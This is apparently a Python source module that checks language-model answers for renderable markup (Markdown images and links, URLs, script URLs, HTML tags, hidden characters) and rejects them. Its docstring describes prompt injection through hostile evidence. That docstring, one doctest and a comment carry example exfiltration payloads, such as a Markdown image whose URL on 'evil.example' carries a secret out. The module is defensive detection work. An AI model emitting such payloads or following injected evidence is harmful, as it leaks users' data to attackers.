"""Output a client could render into an action: links, images, markup, script, hidden text.

An answer goes to readers through UIs that may render Markdown or HTML (OWASP LLM05,
improper output handling). Hostile evidence can ask a model to emit an image whose URL
carries data out (``![x](https://evil/?q=...)``), a script, a ``javascript:`` link, or text
hidden in invisible characters. groundlock does not encode or strip such output — the
validator never edits — it rejects the answer. Plain text is all an answer needs.

Tags that are prompt structure or reasoning traces (``<evidence>``, ``<think>``) are left
to the leak and meta-commentary checks, which name them more precisely.
"""

from __future__ import annotations

import re

from groundlock.text.fold import fold
from groundlock.text.sanitize import FENCE_TAG_NAMES, HIDDEN_CHARACTERS_PATTERN

__all__ = ["REASONING_TAG_NAMES", "unsafe_output"]

REASONING_TAG_NAMES: tuple[str, ...] = ("think", "thinking", "reasoning", "analysis", "scratchpad")
"""Tags models wrap reasoning traces in."""

_PROSE_TAGS = "|".join((*FENCE_TAG_NAMES, *REASONING_TAG_NAMES))
# (kind, pattern, whether it reads the folded text). Case-insensitive patterns are written
# in lower case and read the answer folded as re.I would see it (groundlock.text.fold).
_CHECKS: tuple[tuple[str, re.Pattern[str], bool], ...] = (
    ("a hidden or control character", re.compile(HIDDEN_CHARACTERS_PATTERN), False),
    ("a Markdown image", re.compile(r"!\[[^\]\n]*\]\s*[(\[]"), False),
    # (Leading space of the same line only: ``\s*`` would run on across blank lines from
    # every line start, a quadratic search over an answer of empty lines.)
    ("a Markdown link", re.compile(r"\]\(|^(?:(?!\n)\s)*\[[^\]\n]+\]\s*:", re.M), False),
    ("an invisible character", re.compile("[\u2800\u3164\u115f\u1160\uffa0]"), False),
    (
        "a URL",
        re.compile(
            r"\bhttps?\s*:|\b[a-z][a-z0-9+.\-]{1,15}\s*:\s*//|\b(?:mailto|tel|sms)\s*:"
            # An address's local part starts where a run of its characters does: from
            # anywhere inside the run, a failed match would rescan the run to its end.
            r"|\\\\[^\W_]|(?<![^\s@])[^\s@]+@[^\W_][\w-]*\.[a-z]{2,}"
            r"|\b(?:www|ftp)\.[^\W_]"
            # A bare domain with a path (``evil.com/c?d=secret``): many renderers link it,
            # and the path can carry data out. Tried only where a run of domain characters
            # starts (so ``a-a-a-...`` is not rescanned from each label): any run with a
            # letter or digit that ends in ``.tld/``, where a unit or a Roman numeral
            # (``in.lb/34 Nm``, ``Mk.II/Mk.III``) is no TLD.
            r"|(?<![a-z0-9.\-])[.\-]*[a-z0-9][a-z0-9\-]*(?:\.[a-z0-9\-]*)*"
            r"\.(?!(?:lbs?|ft|in|mm|cm|km|kg|mg|nm|oz|gal|psi|i{1,3}|iv|vi{1,3}|ix|xi{0,2})/)"
            r"[a-z]{2,}/"
            r"|(?<![\w:/])/[/\\][^\W_][\w-]*(?:[.:][\w-]+)*"
            r"|\bdata\s*:\s*[a-z]+/"
        ),
        True,
    ),
    ("a script URL", re.compile(r"\b(?:java|vb|live)script\s*:"), True),
    # ``<C0>`` and ``[C<n>]`` are anchors gone wrong, not markup: the anchor check names them.
    (
        "an HTML tag",
        re.compile(rf"<\s*/?\s*(?!(?:{_PROSE_TAGS}|n)\s*>|c\s*\d)[a-z!?]"),
        True,
    ),
    (
        "an HTML entity",
        re.compile(r"&(?:#[0-9]+|#[xX][0-9a-fA-F]+|[A-Za-z][A-Za-z0-9]{1,31});"),
        False,
    ),
)

_NEEDS: dict[str, tuple[str, ...]] = {
    "a URL": (":", "@", "\\", "/", "www.", "ftp."),
    "a script URL": (":",),
}
"""Substrings a check cannot match without, in the text it reads (every alternative of the
URL pattern needs one of them): a plain sentence has none, and the URL alternation is the
slowest search of all."""


def unsafe_output(text: str) -> str | None:
    """What makes ``text`` unsafe to hand to a renderer, or None if it is plain text.

    >>> unsafe_output("Torque to 45 Nm. [C0]") is None
    True
    >>> unsafe_output("See ![chart](https://evil.example/?q=secret)")
    'a Markdown image'
    >>> unsafe_output("Pressure < 3 bar and flow > 2 l/min. [C1]") is None
    True
    """
    folded = fold(text)
    for kind, pattern, on_folded in _CHECKS:
        read = folded if on_folded else text
        needs = _NEEDS.get(kind)
        if needs is not None and not any(part in read for part in needs):
            continue  # it cannot match: skip an eight-way alternation over the whole text
        if pattern.search(read):
            return kind
    return None
